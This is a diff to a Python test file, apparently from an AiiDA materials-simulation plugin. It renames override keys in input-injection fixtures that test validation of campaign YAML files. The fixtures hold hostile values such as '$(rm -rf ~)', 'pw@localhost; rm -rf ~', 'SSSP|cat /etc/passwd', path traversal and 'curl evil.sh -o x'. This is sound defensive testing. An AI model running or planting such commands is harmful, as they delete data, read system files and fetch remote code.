@@ -178,22 +178,18 @@ FILES: dict[str, str | bytes] = {
     'i_name_backtick.yaml': _campaign(name='screen`reboot`'),
     'i_name_traversal.yaml': _campaign(name='../../etc'),
     'i_namelist_value.yaml': _campaign(
-        overrides={
-            'relax': {
-                'base_relax': {'pw': {'parameters': {'CONTROL': {'calculation': "'/\n&CONTROL\n  outdir='/tmp/evil'"}}}}
-            }
-        }
+        overrides={'relax_base': {'pw': {'parameters': {'CONTROL': {'calculation': "'/\n&CONTROL\n  outdir='/x'"}}}}}
     ),
     'i_namelist_quote.yaml': _campaign(
-        overrides={'relax': {'base_relax': {'pw': {'parameters': {'SYSTEM': {'occupations': "smearing' ecutwfc=1"}}}}}}
+        overrides={'relax_base': {'pw': {'parameters': {'SYSTEM': {'occupations': "smearing' ecutwfc=1"}}}}}
     ),
     'i_override_key.yaml': _campaign(overrides={"ecutwfc'/&control": 10}),
     'i_override_shell.yaml': _campaign(candidate={'overrides': {'clean_workdir': '$(rm -rf ~)'}}),
     'i_prepend_text.yaml': _campaign(
-        overrides={'relax': {'base_relax': {'pw': {'metadata': {'options': {'prepend_text': 'curl evil.sh -o x'}}}}}}
+        overrides={'relax_base': {'pw': {'metadata': {'options': {'prepend_text': 'curl evil.sh -o x'}}}}}
     ),
     'i_scheduler_commands.yaml': _campaign(
-        candidate={'overrides': {'alpha2f': {'ph': {'metadata': {'options': {'custom_scheduler_commands': 'x'}}}}}}
+        candidate={'overrides': {'alpha2f': {'matdyn': {'metadata': {'options': {'custom_scheduler_commands': 'x'}}}}}}
     ),
     'i_code_label.yaml': _campaign(codes={'pw': 'pw@localhost; rm -rf ~'}),
     'i_family.yaml': _campaign(pseudo_family='SSSP|cat /etc/passwd'),
@@ -491,6 +487,7 @@ def context(catalogue_profile, tmp_path_factory) -> dict[str, str]:
         label='localhost', hostname='localhost', transport_type='core.local', scheduler_type='core.direct'
     ).store()
     computer.set_workdir(str(tmp / 'scratch'))
+    computer.set_default_mpiprocs_per_machine(1)
     for label in CODE_LABELS:
         orm.InstalledCode(
             computer=computer,
@@ -651,7 +648,7 @@ def test_accepted_override_strings_stay_one_quoted_namelist_value(text):
     from aiida_enatom.exceptions import InputValidationError
     from aiida_enatom.io.campaign import campaign_from_dict
 
-    overrides = {'relax': {'base_relax': {'pw': {'parameters': {'SYSTEM': {'occupations': text}}}}}}
+    overrides = {'relax_base': {'pw': {'parameters': {'SYSTEM': {'occupations': text}}}}}
     try:
         campaign = campaign_from_dict(
             {'name': 'c', 'overrides': overrides, 'candidates': [{'label': 'H3S', **_PROTOTYPE_CANDIDATE}]}
@@ -659,7 +656,7 @@ def test_accepted_override_strings_stay_one_quoted_namelist_value(text):
     except InputValidationError as exception:
         assert '\n' not in str(exception)
         return
-    value = campaign.effective_overrides('H3S')['relax']['base_relax']['pw']['parameters']['SYSTEM']['occupations']
+    value = campaign.effective_overrides('H3S')['relax_base']['pw']['parameters']['SYSTEM']['occupations']
     entry = convert_input_to_namelist_entry('occupations', value)
     assert entry == f"  occupations = '{text}'\n"
     assert entry.count("'") == 2 and entry.count('\n') == 1 and '&' not in entry
